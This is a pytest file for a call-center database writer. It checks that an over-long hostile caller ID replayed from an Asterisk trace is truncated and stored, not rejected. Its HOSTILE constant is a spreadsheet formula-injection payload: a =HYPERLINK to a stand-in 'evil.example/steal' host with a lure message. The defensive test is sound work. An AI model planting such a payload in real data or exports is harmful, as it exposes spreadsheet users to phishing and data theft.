"""A hostile caller ID (the trunk's From user: long, a formula, quotes) never costs a call record:
the call is stored on SQLite and PostgreSQL with the caller ID cut to the column, and the raw
events keep what Asterisk said. Through the real replay path and the real writer."""

from __future__ import annotations

from pathlib import Path

from sqlalchemy import select

from callcenter.calls.replay import replay_chunks
from callcenter.db.models.calls import Call
from callcenter.db.session import make_engine, make_session_factory
from callcenter.store.spool import Spool
from callcenter.store.writer import CallWriter

HOSTILE = '=HYPERLINK("http://evil.example/steal?n=1","您有一条新消息")' + "9" * 20


def test_a_caller_id_longer_than_the_column_is_stored_not_rejected(database_url: str, traces_dir: Path,
                                                                   tmp_path: Path) -> None:
    data = (traces_dir / "answered_fast.ami").read_bytes().replace(b"13800138000", HOSTILE.encode())
    [record] = list(replay_chunks(iter([data])))
    assert record.caller == HOSTILE
    engine = make_engine(database_url)
    writer = CallWriter(make_session_factory(engine), Spool(tmp_path / "spool", 1 << 30))
    writer.start()
    writer.submit(record, [])
    writer.flush()
    writer.stop()
    with make_session_factory(engine)() as session:
        call = session.scalars(select(Call)).one()
        assert call.linkedid == record.linkedid and call.answered
        assert call.caller == HOSTILE[:32]
    engine.dispose()
    assert not writer.rejected_path.exists()
